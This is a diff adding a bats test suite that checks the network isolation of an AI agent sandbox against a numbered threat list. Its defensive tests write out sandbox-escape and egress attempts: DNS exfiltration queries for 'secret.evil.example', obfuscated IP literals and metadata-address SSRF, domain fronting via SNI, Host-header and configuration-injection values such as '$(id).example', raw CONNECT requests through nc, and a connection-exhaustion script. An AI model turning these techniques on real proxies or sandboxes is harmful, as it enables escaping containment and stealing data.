@@ -1,0 +1,398 @@
+#!/usr/bin/env bats
+# THREATS, "From the agent: the network", one test or more for each number, against a sandbox that has
+# every grant: a DIFC proxy, domains, ports of the host. Each target is first reached from elsewhere.
+
+load bed
+load attack
+load internet
+
+# Ports on every address of the bed's host, one of them granted.
+GRANTED_PORT=3000
+HOST_PORT=7777
+
+setup_file() {
+	bed up
+}
+
+setup() {
+	reset_records
+	bed_service start host-answers -- "$BED_TOOLS/answerer" --record "$BED_DIR/host-answers.jsonl" \
+		"tcp:0.0.0.0:$HOST_PORT" "udp:0.0.0.0:$HOST_PORT" "tcp:[::]:$HOST_PORT" "udp:[::]:$HOST_PORT" \
+		"tcp:127.0.0.1:$GRANTED_PORT"
+}
+
+teardown() {
+	attacker_stop
+	bed_service kill host-answers
+	bed_clean_up_test
+}
+
+all_grants() {
+	printf '%s\n' --difc-proxy-host localhost:18443 --difc-proxy-ca-cert "$BED_DIFC_CA" \
+		--allow-domains granted.example,other.example --block-domains blocked.granted.example \
+		--enable-host-access --allow-host-ports "$GRANTED_PORT"
+}
+
+# attack_start WHICH: the sandbox; WHICH is attacker (the probe) or agent (a shell).
+attack_start() {
+	local options
+	mapfile -t options < <(all_grants)
+	case $1 in
+	attacker) attacker_start attacker --agent-image awf/agent-test:latest "${options[@]}" ;;
+	agent) agent_start agent "${options[@]}" ;;
+	esac
+}
+
+probe_on_host() {
+	bed_exec -u root -- "$BED_TOOLS/probe" "$@"
+}
+
+# The first process of the container of that role.
+sandbox_pid() {
+	bed_exec -u root -- docker ps -q --filter "label=awf.role=$1" |
+		head -n 1 | xargs "$BED" exec -u root -- docker inspect -f '{{.State.Pid}}'
+}
+
+# A command in squid's network, as squid's user: what a squid that was taken over could do.
+in_squid() {
+	bed_exec -u root -- nsenter -t "$(sandbox_pid squid)" -n -- \
+		setpriv --reuid 65533 --regid 65533 --clear-groups --inh-caps=-all --bounding-set=-all -- "$@"
+}
+
+# Every address of the bed's host, as targets of the service there.
+host_targets() {
+	bed_exec -u root -- ip -j address | jq -r --arg port "$HOST_PORT" '
+		.[] | .ifname as $link | .addr_info[] | select(.scope == "global" or .scope == "host") |
+		(if .family == "inet6" then "[\(.local)]" else .local end) |
+		"tcp:\(.):\($port)", if $link == "eth0" then "udp:\(.):\($port)" else empty end'
+}
+
+outside_targets() {
+	printf '%s\n' tcp:10.77.0.2:80 udp:10.77.0.2:53 tcp:10.77.0.2:53 'tcp:[fd77::2]:80' 'udp:[fd77::2]:53' \
+		tcp:203.0.113.80:80 tcp:203.0.113.80:443 tcp:203.0.113.80:9999 udp:203.0.113.80:53 \
+		'tcp:[2001:db8::80]:443' 'udp:[2001:db8::80]:53' tcp:169.254.169.254:80 \
+		icmp:10.77.0.2 icmp:203.0.113.80
+}
+
+prove_targets_alive() {
+	local targets
+	mapfile -t targets < <(host_targets; outside_targets)
+	((${#targets[@]} > 15))
+	wait_for all_alive "${targets[@]}"
+}
+
+all_alive() {
+	assert_all_reached "$(probe_on_host "$@")"
+}
+
+# What the agent's proxy says to a request, and what curl makes of it: 200, 403, or 000 for a cut.
+readonly FETCH='fetch() { curl -sS -o /dev/null --max-time 20 -w "%{http_code} %{http_connect}" "$@" 2>/dev/null || :; }'
+
+# proxied ARGUMENT...: curl's status there; refused ARGUMENT...: neither an answer nor a tunnel.
+proxied() {
+	in_agent "$FETCH; fetch $*"
+}
+
+assert_refused() {
+	local seen
+	seen=$(proxied "$@")
+	[[ $seen == '403 000' || $seen == '000 403' || $seen == '400 000' || $seen == '000 400' ]] ||
+		{ echo "not refused: $*: $seen"; return 1; }
+}
+
+assert_cut() {
+	local seen
+	seen=$(proxied "$@")
+	[[ $seen != 200* ]] || { echo "not cut: $*: $seen"; return 1; }
+}
+
+@test "1 direct TCP, UDP and ICMP to any outside address, any port, v4 and v6" {
+	prove_targets_alive
+	attack_start attacker
+	assert_all_reached "$(attacker_try tcp:172.30.0.10:3128 tcp:172.30.0.50:11000 "tcp:172.30.0.1:$GRANTED_PORT")"
+	mapfile -t targets < <(outside_targets)
+	assert_none_reached "$(attacker_try "${targets[@]}")"
+}
+
+@test "1 a squid that was taken over opens no port outside but 80 and 443" {
+	prove_targets_alive
+	attack_start attacker
+	assert_all_reached "$(in_squid "$BED_TOOLS/probe" tcp:203.0.113.80:80 tcp:203.0.113.80:443)"
+	assert_none_reached "$(in_squid "$BED_TOOLS/probe" tcp:203.0.113.80:9999 udp:203.0.113.80:53 \
+		tcp:203.0.113.80:22 udp:203.0.113.80:443 icmp:203.0.113.80 'udp:[2001:db8::80]:53')"
+}
+
+@test "2 host services on every host address, from the agent and from every sidecar" {
+	prove_targets_alive
+	attack_start attacker
+	mapfile -t targets < <(host_targets | grep -v '127.0.0.1\|\[::1\]')
+	((${#targets[@]} >= 6))
+	assert_none_reached "$(attacker_try "${targets[@]}" "tcp:172.30.0.1:$HOST_PORT" "udp:172.30.0.1:$HOST_PORT" tcp:172.30.0.1:18443)"
+	assert_none_reached "$(in_squid "$BED_TOOLS/probe" "${targets[@]}")"
+	# squid's own gateway is the host.
+	gateway=$(bed_exec -u root -- ip -j address show awf-egress | jq -r '.[].addr_info[] | select(.family == "inet").local')
+	all_alive "tcp:$gateway:$HOST_PORT"
+	assert_none_reached "$(in_squid "$BED_TOOLS/probe" "tcp:$gateway:$HOST_PORT" "udp:$gateway:$HOST_PORT" "udp:$gateway:53")"
+}
+
+@test "2 also after the rules of squid's own namespace, the host's alone refuse" {
+	attack_start attacker
+	bed_exec -u root -- nsenter -t "$(sandbox_pid squid)" -n nft flush ruleset
+	mapfile -t targets < <(host_targets | grep -v '127.0.0.1\|\[::1\]')
+	assert_all_reached "$(in_squid "$BED_TOOLS/probe" tcp:203.0.113.80:443)"
+	assert_none_reached "$(in_squid "$BED_TOOLS/probe" "${targets[@]}" tcp:10.77.0.2:80 tcp:169.254.169.254:80 \
+		tcp:203.0.113.80:9999 'tcp:[fd77::2]:80')"
+}
+
+@test "2 and after the host's rules were flushed, those of squid's namespace alone" {
+	attack_start attacker
+	bed awfd kill
+	bed_exec -u root -- nft flush ruleset
+	bed_exec -u root -- iptables -P FORWARD ACCEPT
+	prove_targets_alive
+	mapfile -t targets < <(host_targets | grep -v '127.0.0.1\|\[::1\]')
+	assert_none_reached "$(in_squid "$BED_TOOLS/probe" "${targets[@]}" tcp:10.77.0.2:80 tcp:169.254.169.254:80 'tcp:[fd77::2]:80')"
+	mapfile -t targets < <(outside_targets)
+	assert_none_reached "$(attacker_try "${targets[@]}")"
+	attacker_stop
+	bed down
+	bed up
+	setup
+}
+
+@test "3 metadata, link-local, multicast, broadcast, and other sandboxes' squids" {
+	local other address
+	prove_targets_alive
+	bed_background -u bob -- awfctl run --allow-domains granted.example -- 'echo ready; exec sleep 600'
+	wait_for bed_background_said ready
+	other=$(bed_exec -u root -- docker ps -q --filter label=awf.role=squid)
+	address=$(bed_exec -u root -- docker inspect -f '{{(index .NetworkSettings.Networks "awf-egress").IPAddress}}' "$other")
+	attack_start attacker
+	# bob's squid is there, and something answers on its bridge address, when asked from its own namespace.
+	pid=$(bed_exec -u root -- docker inspect -f '{{.State.Pid}}' "$other")
+	bed_exec -u root -- nsenter -t "$pid" -n nft flush ruleset
+	bed_exec -u root -- nsenter -t "$pid" -n "$BED_TOOLS/service" --dir "$BED_DIR" start bob-answers -- \
+		"$BED_TOOLS/answerer" tcp:0.0.0.0:443 udp:0.0.0.0:443
+	assert_all_reached "$(bed_exec -u root -- nsenter -t "$pid" -n "$BED_TOOLS/probe" "tcp:$address:443" "udp:$address:443")"
+	first=$(bed_exec -u root -- docker ps -q --filter label=awf.role=squid --filter "label=awf.owner-uid=$(bed_exec -- id -u)")
+	mine=$(bed_exec -u root -- docker inspect -f '{{.State.Pid}}' "$first")
+	assert_none_reached "$(bed_exec -u root -- nsenter -t "$mine" -n "$BED_TOOLS/probe" "tcp:$address:443" "udp:$address:443" "icmp:$address")"
+	assert_none_reached "$(attacker_try "tcp:$address:443" tcp:169.254.169.254:80 udp:224.0.0.251:5353 udp:255.255.255.255:53 \
+		tcp:169.254.0.1:80 'udp:[ff02::fb]:5353')"
+	# With the rules of both namespaces and of the host gone, the bridge itself still keeps the two apart.
+	bed_exec -u root -- nsenter -t "$mine" -n nft flush ruleset
+	assert_none_reached "$(bed_exec -u root -- nsenter -t "$mine" -n "$BED_TOOLS/probe" "tcp:$address:443" "udp:$address:443" "icmp:$address")"
+	bed_service kill bob-answers
+}
+
+@test "3 no address of another can be taken: the agent has no way to change its own" {
+	attack_start agent
+	run in_agent 'ip address add 172.30.0.99/32 dev squid'
+	((status != 0))
+	run in_agent 'ip route add default via 172.30.0.10'
+	((status != 0))
+	run in_agent 'ip neigh add 172.30.0.10 lladdr 02:00:00:00:00:01 dev squid'
+	((status != 0))
+}
+
+@test "4 DNS by any path: no server, no name, no query" {
+	prove_targets_alive
+	(($(dns_count evil.example) == 0))
+	attack_start agent
+	run in_agent 'getent hosts secret.evil.example'
+	((status != 0))
+	run in_agent 'for s in 127.0.0.11 127.0.0.53 10.77.0.2 172.30.0.10 172.30.0.1 172.17.0.1 198.18.0.1 203.0.113.53; do python3 - $s <<<"
+import socket,sys
+q=bytes.fromhex(\"123401000001000000000000\")+b\"\\x06secret\\x04evil\\x07example\\x00\\x00\\x01\\x00\\x01\"
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)
+try: s.sendto(q,(sys.argv[1],53)); s.recv(512); print(\"answered\",sys.argv[1])
+except OSError: pass" ; done'
+	[[ $output != *answered* ]]
+	# squid resolves for the agent only what is granted: not the name of a refused tunnel.
+	assert_refused https://secret.evil.example/ --max-time 5
+	assert_refused http://secret.evil.example/ --max-time 5
+	assert_refused https://data.blocked.granted.example/
+	(($(dns_count evil.example) == 0))
+	(($(dns_count blocked.granted.example) == 0))
+	# and the server does count: a granted name arrives.
+	[[ $(proxied https://granted.example/) == 200* ]]
+	(($(dns_count granted.example) > 0))
+}
+
+@test "4 a squid that was taken over asks its name servers only, not the engine's" {
+	prove_targets_alive
+	attack_start attacker
+	assert_all_reached "$(in_squid "$BED_TOOLS/probe" tcp:10.77.0.2:53)"
+	assert_none_reached "$(in_squid "$BED_TOOLS/probe" udp:127.0.0.11:53 tcp:127.0.0.11:53 udp:203.0.113.80:53 'udp:[fd77::2]:53')"
+}
+
+@test "5 through squid: what is not allowed, and a blocked name under an allowed one" {
+	prove_alive https://evil.example/ https://blocked.granted.example/ http://evil.example/
+	attack_start agent
+	[[ $(proxied https://granted.example/) == 200* ]]
+	assert_refused https://evil.example/
+	assert_refused http://evil.example/
+	assert_refused https://blocked.granted.example/
+	assert_refused https://x.blocked.granted.example/
+	assert_refused https://xgranted.example/
+	assert_refused https://granted.example.evil.example/
+	run origin_saw evil.example
+	((status != 0))
+}
+
+@test "5 IP literals in every spelling" {
+	prove_alive http://203.0.113.80/ tcp:203.0.113.80:443
+	attack_start agent
+	local host
+	for host in 203.0.113.80 3405804880 0xcb007150 0313.0.0161.0120 203.7377.80 203.0.28976 0xcb.0.0x71.0x50 \
+		'\[2001:db8::80\]' '\[::ffff:203.0.113.80\]' '\[::ffff:cb00:7150\]' '\[64:ff9b::203.0.113.80\]' 127.1 2130706433 0 \
+		'\[::1\]' '\[::\]' 169.254.169.254 2852039166; do
+		assert_refused "-g http://$host/"
+		run in_agent "printf 'CONNECT $host:443 HTTP/1.1\r\nHost: x\r\n\r\n' | timeout 5 nc -q 2 172.30.0.10 3128 | head -n 1"
+		[[ $output == *' 403 '* || $output == *' 400 '* ]] || { echo "$host: $output"; false; }
+	done
+	run origin_saw 203.0.113.80
+	((status != 0))
+}
+
+@test "5 case and a trailing dot change nothing, neither what is granted nor what is blocked" {
+	attack_start agent
+	[[ $(proxied https://GRANTED.EXAMPLE/) == 200* ]]
+	assert_refused https://BLOCKED.Granted.example/
+	assert_refused https://blocked.granted.example./
+	run in_agent "printf 'CONNECT Blocked.Granted.Example.:443 HTTP/1.1\r\n\r\n' | timeout 5 nc -q 2 172.30.0.10 3128 | head -n 1"
+	[[ $output == *' 403 '* ]]
+	run in_agent "printf 'CONNECT evil.example..:443 HTTP/1.1\r\n\r\n' | timeout 5 nc -q 2 172.30.0.10 3128 | head -n 1"
+	[[ $output == *' 40'[03]' '* ]]
+}
+
+@test "5 CONNECT to an allowed name on another port, plain requests to another port, other schemes" {
+	prove_alive tcp:203.0.113.80:22 tcp:203.0.113.80:8443 tcp:203.0.113.80:8080
+	attack_start agent
+	local port
+	for port in 22 80 8443 25 53 3128 65535; do
+		run in_agent "printf 'CONNECT granted.example:$port HTTP/1.1\r\n\r\n' | timeout 5 nc -q 2 172.30.0.10 3128 | head -n 1"
+		[[ $output == *' 403 '* ]] || { echo "$port: $output"; false; }
+	done
+	assert_refused http://granted.example:8080/
+	assert_refused http://granted.example:443/
+	assert_refused --proxy http://172.30.0.10:3128 ftp://granted.example/
+	run in_agent "printf 'GET https://granted.example/ HTTP/1.1\r\nHost: granted.example\r\nConnection: close\r\n\r\n' | timeout 5 nc -q 2 172.30.0.10 3128 | head -n 1"
+	[[ $output == *' 40'[03]' '* ]]
+	run in_agent "printf 'GET cache_object://granted.example/info HTTP/1.1\r\n\r\n' | timeout 5 nc -q 2 172.30.0.10 3128 | head -n 1"
+	[[ $output != *' 200 '* ]]
+	run in_agent "printf 'GET /squid-internal-mgr/menu HTTP/1.1\r\nHost: 172.30.0.10:3128\r\n\r\n' | timeout 5 nc -q 2 172.30.0.10 3128 | head -n 1"
+	[[ $output != *' 200 '* ]]
+}
+
+# tunnel HOST ARGUMENT...: an openssl s_client through the proxy to HOST:443.
+tunnel() {
+	in_agent "timeout 10 openssl s_client -proxy 172.30.0.10:3128 -connect $1:443 ${*:2} </dev/null 2>&1"
+}
+
+@test "5 CONNECT to an allowed name with another SNI, or none: domain fronting is cut" {
+	# From outside the origin answers whatever name is asked for.
+	bed_exec --netns outside -u root -- sh -c 'openssl s_client -connect 203.0.113.80:443 -servername evil.example </dev/null 2>&1' | grep -q 'BEGIN CERTIFICATE'
+	bed_exec --netns outside -u root -- sh -c 'openssl s_client -connect 203.0.113.80:443 -noservername </dev/null 2>&1' | grep -q 'BEGIN CERTIFICATE'
+	reset_records
+	attack_start agent
+	run tunnel granted.example -servername granted.example
+	[[ $output == *'BEGIN CERTIFICATE'* ]]
+	local sni
+	for sni in evil.example www.granted.example other.example blocked.granted.example granted.example.evil.example; do
+		run tunnel granted.example -servername "$sni"
+		[[ $output != *'BEGIN CERTIFICATE'* ]] || { echo "$sni"; false; }
+	done
+	run tunnel granted.example -noservername
+	[[ $output != *'BEGIN CERTIFICATE'* ]]
+	run origin_saw evil.example
+	((status != 0))
+	# upper case is the same name
+	run tunnel granted.example -servername GRANTED.example
+	[[ $output == *'BEGIN CERTIFICATE'* ]]
+}
+
+@test "5 no TLS at all on 443" {
+	attack_start agent
+	run in_agent "printf 'CONNECT granted.example:443 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: granted.example\r\n\r\n' | timeout 10 nc -q 5 172.30.0.10 3128"
+	[[ $output != *'granted.example answers'* && $output != *$'\n''HTTP/1.1 '[24]* ]]
+	run in_agent "(printf 'CONNECT granted.example:443 HTTP/1.1\r\n\r\n'; sleep 1; printf 'SSH-2.0-x\r\n'; sleep 1) | timeout 10 nc -q 5 172.30.0.10 3128 | wc -c"
+	((output < 200))
+}
+
+@test "5 an allowed name that resolves to a private, link-local or host address" {
+	prove_alive http://10.77.0.2/ http://169.254.169.254/ tcp:10.77.0.1:7777 'http://[fd77::2]/'
+	local names=(private metadata loop host mapped ula squid) name
+	agent_start rebinder --allow-domains "$(printf '%s.example,' "${names[@]}" | sed 's/,$//')"
+	for name in "${names[@]}"; do
+		assert_refused "http://$name.example/ --max-time 15"
+		assert_cut "https://$name.example/ --max-time 15"
+	done
+}
+
+@test "5 a Host header that differs from the URL does not arrive" {
+	prove_alive http://evil.example/ http://granted.example/
+	reset_records
+	attack_start agent
+	[[ $(proxied http://granted.example/ -H 'Host:\ evil.example') != 000* ]]
+	run origin_saw 'evil.example'
+	((status != 0))
+	origin_saw granted.example
+}
+
+@test "5 look-alikes of an allowed name are other names" {
+	attack_start agent
+	assert_refused https://gr%D0%B0nted.example/
+	assert_refused https://xn--grnted-7ve.example/
+	run in_agent "printf 'CONNECT gr\xd0\xb0nted.example:443 HTTP/1.1\r\n\r\n' | timeout 5 nc -q 2 172.30.0.10 3128 | head -n 1"
+	[[ $output == *' 40'[03]' '* ]]
+}
+
+@test "5 an allowed domain cannot end up as syntax in squid's configuration" {
+	local text
+	for text in $'a.example\nhttp_access allow all' 'a.example"' "a.example'" 'a.example #' 'a.example\' '*' '*.*' '*.com' 'com' \
+		'a.example all' $'a.example\t' $'a.example\r' 'a.example/' 'a.example:443' 'a@b.example' '$(id).example' '%61.example' \
+		'[::1]' '10.0.0.1' '.' '-a.example' 'a..example' ''; do
+		run --separate-stderr bed_exec awfctl run --allow-domains "$text" -- true
+		((status == 2)) || { printf 'accepted: %q\n' "$text"; false; }
+		[[ $stderr == *--allow-domains* ]]
+	done
+	assert_clean
+}
+
+@test "6 stepping stones: cli-proxy and squid lead to no host port, no other DIFC port, no other sandbox" {
+	bed_second_difc 18444 other
+	prove_targets_alive
+	attack_start agent
+	assert_refused http://host.docker.internal:3000/ --noproxy "''"
+	assert_refused http://localhost:18443/ --noproxy "''"
+	assert_refused http://127.0.0.1:18443/ --noproxy "''"
+	assert_refused http://172.30.0.50:11000/health --noproxy "''"
+	assert_refused http://172.30.0.10:3128/ --noproxy "''"
+	assert_none_reached "$(in_squid "$BED_TOOLS/probe" tcp:172.30.0.50:11000 tcp:172.30.0.20:22 tcp:10.77.0.1:18443)"
+	in_agent 'cat >/dev/null </dev/tcp/172.30.0.50/11000 & sleep 0; kill $! 2>/dev/null; true'
+	run in_agent 'gh api --hostname localhost:18444 zen'
+	((status != 0))
+}
+
+@test "7 exhaustion: slow and idle connections of one sandbox harm neither it nor another" {
+	attack_start agent
+	in_agent 'python3 - <<<"
+import socket,resource
+resource.setrlimit(resource.RLIMIT_NOFILE,(4096,4096)) if resource.getrlimit(resource.RLIMIT_NOFILE)[1]>=4096 else None
+keep=[]
+for i in range(1500):
+    s=socket.socket(); s.setblocking(False)
+    try: s.connect((\"172.30.0.10\",3128))
+    except BlockingIOError: pass
+    keep.append(s)
+for s in keep[:700]:
+    try: s.send(b\"GET http://granted.example/ HTTP/1.1\\r\\nX: \")
+    except OSError: pass
+open(\"/tmp/held\",\"w\").close()
+import time; time.sleep(600)" >/dev/null 2>&1 &'
+	wait_for in_agent 'test -e /tmp/held'
+	# Another sandbox does not notice.
+	run -0 bed_exec -u bob timeout 30 awfctl run --agent-image awf/agent-test:latest --allow-domains granted.example -- \
+		curl -fsS --max-time 15 https://granted.example/
+}
